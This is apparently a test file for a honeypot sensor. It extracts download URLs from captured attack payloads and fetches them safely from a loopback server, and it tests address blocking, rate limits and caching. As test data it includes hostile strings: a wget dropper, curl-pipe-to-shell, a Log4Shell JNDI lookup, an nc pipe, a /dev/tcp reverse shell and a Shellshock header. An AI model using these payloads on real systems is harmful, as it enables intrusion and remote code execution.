# SPDX-License-Identifier: MIT
"""Payload → download hand-off: a real sensor context, a real downloader, a loopback HTTP server.

The context is the one the runtime builds (``Sensor._build``: spool, event log, content
store); the file server is aiohttp.web on 127.0.0.1, started by each test. Nothing leaves
the host: targets other than the loopback server are refused by the address policy or are
indicators that are never connected to.
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import json
import socket
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from honeyfarm.schema import EVENT_COLUMNS
from honeyfarm.sensor.capture import origin
from honeyfarm.sensor.capture.origin import PayloadCapture, capture_payload
from honeyfarm.sensor.config import DownloadsConfig, SensorConfig, SpoolConfig
from honeyfarm.sensor.context import SensorContext
from honeyfarm.sensor.events import SessionLog
from honeyfarm.sensor.runtime import Sensor

pytestmark = pytest.mark.timeout(120)

BODY = b"#!/bin/sh\necho dropped\n" * 100
DOWNLOAD = "cowrie.session.file_download"
FAILED = "cowrie.session.file_download.failed"


@dataclass
class Server:
    port: int
    hits: dict[str, int] = field(default_factory=dict)
    gate: asyncio.Event = field(default_factory=asyncio.Event)

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.port}{path}"


@contextlib.asynccontextmanager
async def file_server() -> AsyncIterator[Server]:
    app = web.Application()
    runner = web.AppRunner(app)
    server = Server(0)
    server.gate.set()

    async def handle(request: web.Request) -> web.StreamResponse:
        server.hits[request.path] = server.hits.get(request.path, 0) + 1
        if request.path.startswith("/slow"):
            await server.gate.wait()
        if request.path.startswith("/missing"):
            raise web.HTTPNotFound()
        return web.Response(body=BODY, content_type="application/x-sh")

    app.router.add_get("/{tail:.*}", handle)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    server.port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
    try:
        yield server
    finally:
        server.gate.set()
        await runner.cleanup()


@contextlib.asynccontextmanager
async def sensor(tmp_path: Path, **downloads: Any) -> AsyncIterator[SensorContext]:
    dl: dict[str, Any] = {"timeout": 5.0, "connect_timeout": 2.0}
    dl.update(downloads)
    cfg = SensorConfig(spool=SpoolConfig(dir=tmp_path / "spool"), downloads=DownloadsConfig(**dl))
    ctx = Sensor(cfg)._build()
    try:
        yield ctx
    finally:
        for task in list(ctx.tasks):
            task.cancel()
        await asyncio.gather(*ctx.tasks, return_exceptions=True)
        if ctx.downloader is not None:
            await ctx.downloader.aclose()
        ctx.events.spool.close()


def session(ctx: SensorContext, ip: str = "203.0.113.7") -> SessionLog:
    return SessionLog(ctx.events, "http", (ip, 40_000), ("127.0.0.1", 80))


async def settle(ctx: SensorContext) -> None:
    async with asyncio.timeout(20):
        while any(not t.done() for t in ctx.tasks):
            await asyncio.sleep(0.01)


def events(ctx: SensorContext, *eventids: str) -> list[dict[str, Any]]:
    ctx.events.spool.sync()
    recs = [json.loads(x) for p in sorted((ctx.spool_dir / "events").iterdir()) for x in p.read_bytes().splitlines()]
    return [r for r in recs if not eventids or r["eventid"] in eventids]


def run(coro: Any) -> Any:
    return asyncio.run(coro)


def test_a_dropper_in_a_payload_is_fetched_into_the_store_with_its_origin(tmp_path: Path) -> None:
    async def body() -> None:
        async with file_server() as srv, sensor(tmp_path, allow_loopback=True) as ctx:
            log = session(ctx)
            payload = f"/cgi-bin/x?cmd=cd+/tmp;wget+{srv.url('/bins.sh')};sh+bins.sh"
            found = capture_payload(ctx, log, payload, trap="http", request="GET /cgi-bin/x")
            assert found == [srv.url("/bins.sh")]
            await settle(ctx)
            (ev,) = events(ctx, DOWNLOAD, FAILED)
            assert ev["eventid"] == DOWNLOAD
            assert ev["url"] == srv.url("/bins.sh") and ev["session"] == log.session
            assert (ev["trap"], ev["request"], ev["how"], ev["via"]) == ("http", "GET /cgi-bin/x", "wget", "urlencode")
            assert ev["src_ip"] == "203.0.113.7" and ev["protocol"] == "http"
            assert ev["sha256"] == hashlib.sha256(BODY).hexdigest() and ev["size"] == len(BODY)
            assert ctx.store is not None and ctx.store.path_of(ev["sha256"]).read_bytes() == BODY
            # Not lake columns: ingest puts them in extra (extra.trap, extra.request, extra.how).
            assert {"trap", "request", "how", "via"}.isdisjoint(c.name for c in EVENT_COLUMNS)

    run(body())


def test_loopback_and_private_targets_are_refused_by_default(tmp_path: Path) -> None:
    async def body() -> None:
        async with file_server() as srv, sensor(tmp_path) as ctx:
            log = session(ctx)
            capture_payload(ctx, log, f"curl -s {srv.url('/x')} | sh; wget http://10.1.2.3/y", trap="redis")
            await settle(ctx)
            got = {e["url"]: e for e in events(ctx, DOWNLOAD, FAILED)}
            assert got[srv.url("/x")]["eventid"] == FAILED
            assert got[srv.url("/x")]["reason"].startswith("blocked: loopback")
            assert got["http://10.1.2.3/y"]["reason"].startswith("blocked: private")
            assert srv.hits == {}

    run(body())


def test_each_url_is_fetched_once_per_session_and_once_sensor_wide(tmp_path: Path) -> None:
    async def body() -> None:
        async with file_server() as srv, sensor(tmp_path, allow_loopback=True) as ctx:
            first, second = session(ctx), session(ctx, "198.51.100.9")
            cmd = f"wget {srv.url('/a')}"
            for _ in range(3):
                capture_payload(ctx, first, cmd, trap="docker")
            await settle(ctx)
            capture_payload(ctx, second, cmd, trap="docker")
            await settle(ctx)
            evs = events(ctx, DOWNLOAD)
            assert [(e["session"], e.get("cached")) for e in evs] == [(first.session, None), (second.session, True)]
            assert evs[0]["sha256"] == evs[1]["sha256"]
            assert srv.hits == {"/a": 1}

    run(body())


def test_sessions_asking_while_a_fetch_runs_share_it(tmp_path: Path) -> None:
    async def body() -> None:
        async with file_server() as srv, sensor(tmp_path, allow_loopback=True) as ctx:
            srv.gate.clear()
            logs = [session(ctx, f"192.0.2.{i}") for i in range(1, 6)]
            for log in logs:
                capture_payload(ctx, log, f"curl -o x {srv.url('/slow')}", trap="http")
            await asyncio.sleep(0.2)
            srv.gate.set()
            await settle(ctx)
            evs = events(ctx, DOWNLOAD)
            assert sorted(e["session"] for e in evs) == sorted(log.session for log in logs)
            assert srv.hits == {"/slow": 1}

    run(body())


def test_per_session_and_per_source_bounds(tmp_path: Path) -> None:
    async def body() -> None:
        async with file_server() as srv, sensor(tmp_path, allow_loopback=True) as ctx:
            log = session(ctx)
            for i in range(origin.MAX_FETCH_PER_SESSION + 10):
                capture_payload(ctx, log, f"wget {srv.url(f'/s{i}')}", trap="http")
            await settle(ctx)
            evs = events(ctx, DOWNLOAD, FAILED)
            assert len(srv.hits) == origin.MAX_FETCH_PER_SESSION
            limits = [e for e in evs if e.get("reason", "").startswith("session limit")]
            assert len(limits) == 1 and len(evs) == origin.MAX_FETCH_PER_SESSION + 1

            # One source address, many sessions (a scanner's one request per connection).
            for i in range(origin.MAX_FETCH_PER_SOURCE + 5):
                capture_payload(ctx, session(ctx, "198.51.100.77"), f"wget {srv.url(f'/p{i}')}", trap="http")
            await settle(ctx)
            refused = [e for e in events(ctx, FAILED) if e.get("reason", "").startswith("source limit")]
            assert len(refused) == 5
            assert sum(1 for p in srv.hits if p.startswith("/p")) == origin.MAX_FETCH_PER_SOURCE

    run(body())


def test_sensor_wide_in_flight_bound(tmp_path: Path) -> None:
    async def body() -> None:
        async with file_server() as srv, sensor(tmp_path, allow_loopback=True) as ctx:
            srv.gate.clear()
            n = origin.MAX_IN_FLIGHT + 6
            for i in range(n):  # different sources, so only the sensor-wide bound applies
                capture_payload(
                    ctx, session(ctx, f"10.9.{i // 200}.{i % 200}"), f"wget {srv.url(f'/slow{i}')}", trap="x"
                )
            busy = [e for e in events(ctx, FAILED) if e.get("reason") == "busy"]
            assert len(busy) == 6
            srv.gate.set()
            await settle(ctx)
            assert len(events(ctx, DOWNLOAD)) == origin.MAX_IN_FLIGHT

    run(body())


def test_indicators_are_logged_and_never_connected_to(tmp_path: Path) -> None:
    async def body() -> None:
        listener = socket.socket()
        listener.bind(("127.0.0.1", 0))
        listener.listen(8)
        listener.setblocking(False)
        port = listener.getsockname()[1]
        try:
            async with sensor(tmp_path, allow_loopback=True) as ctx:
                log = session(ctx)
                payload = (
                    f"${{jndi:ldap://127.0.0.1:{port}/a}} ; nc 127.0.0.1 {port} | sh ; "
                    f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"
                )
                assert capture_payload(ctx, log, payload, trap="http", request="GET /") == []
                capture_payload(ctx, log, payload, trap="http", request="GET /")  # logged once per session
                await settle(ctx)
                await asyncio.sleep(0.2)
                evs = events(ctx, DOWNLOAD, FAILED)
                assert [(e["url"], e["how"], e["reason"]) for e in evs] == [
                    (f"ldap://127.0.0.1:{port}/a", "jndi", "not fetched: jndi target"),
                    (f"tcp://127.0.0.1:{port}", "nc", "not fetched: nc target"),
                ]
                with pytest.raises(BlockingIOError):
                    listener.accept()  # nobody connected
        finally:
            listener.close()

    run(body())


def test_downloads_disabled_still_logs_the_url(tmp_path: Path) -> None:
    async def body() -> None:
        async with sensor(tmp_path, enabled=False) as ctx:
            capture_payload(ctx, session(ctx), "wget http://198.51.100.1/x", trap="elasticsearch")
            await settle(ctx)
            (ev,) = events(ctx, FAILED)
            assert (ev["url"], ev["reason"], ev["trap"]) == (
                "http://198.51.100.1/x",
                "downloads disabled",
                "elasticsearch",
            )

    run(body())


def test_failures_are_reported_and_briefly_remembered(tmp_path: Path) -> None:
    async def body() -> None:
        async with file_server() as srv, sensor(tmp_path, allow_loopback=True) as ctx:
            capture_payload(ctx, session(ctx), f"wget {srv.url('/missing')}", trap="http")
            await settle(ctx)
            capture_payload(ctx, session(ctx, "192.0.2.200"), f"wget {srv.url('/missing')}", trap="http")
            await settle(ctx)
            evs = events(ctx, FAILED)
            assert [(e["reason"], e.get("cached")) for e in evs] == [("HTTP 404", None), ("HTTP 404", True)]
            assert srv.hits == {"/missing": 1}

    run(body())


def test_a_large_payload_is_scanned_beyond_its_head_off_the_event_loop(tmp_path: Path) -> None:
    async def body() -> None:
        async with file_server() as srv, sensor(tmp_path, allow_loopback=True) as ctx:
            log = session(ctx)
            head = f"wget {srv.url('/head')}\n"
            payload = head + "#" * (origin.INLINE_CHARS * 4) + f"\ncurl -o t {srv.url('/tail')}\n"
            assert capture_payload(ctx, log, payload, trap="redis") == [srv.url("/head")]
            await settle(ctx)
            assert sorted(e["url"] for e in events(ctx, DOWNLOAD)) == [srv.url("/head"), srv.url("/tail")]

    run(body())


def test_flood_of_payloads_keeps_state_bounded(tmp_path: Path) -> None:
    async def body() -> None:
        async with sensor(tmp_path, allow_loopback=True) as ctx:
            for i in range(2000):
                log = session(ctx, f"100.{64 + i // 60000}.{i // 250 % 240}.{i % 250}")
                capture_payload(ctx, log, ("x" * 50 + " ") * 100 + f"wget http://127.0.0.1:9/{i}", trap="http")
            state = vars(ctx)["payloads"]
            assert isinstance(state, PayloadCapture)
            assert len(state.in_flight) <= origin.MAX_IN_FLIGHT
            await settle(ctx)
            assert len(state.recent) <= origin.MAX_RECENT and len(state.sources) <= origin.MAX_SOURCES
            assert len(events(ctx, DOWNLOAD, FAILED)) == 2000

    run(body())


def test_plain_urls_can_be_left_unfetched(tmp_path: Path) -> None:
    async def body() -> None:
        async with file_server() as srv, sensor(tmp_path, allow_loopback=True) as ctx:
            log = session(ctx)
            referer = f"Referer: {srv.url('/page')}"
            assert capture_payload(ctx, log, referer, trap="http", plain_urls=False) == []
            agent = f"() {{ :; }}; /bin/bash -c 'wget {srv.url('/ss')}'"
            assert capture_payload(ctx, log, agent, trap="http", plain_urls=False) == [srv.url("/ss")]
            await settle(ctx)
            assert [e["url"] for e in events(ctx, DOWNLOAD, FAILED)] == [srv.url("/ss")]
            assert srv.hits == {"/ss": 1}

    run(body())
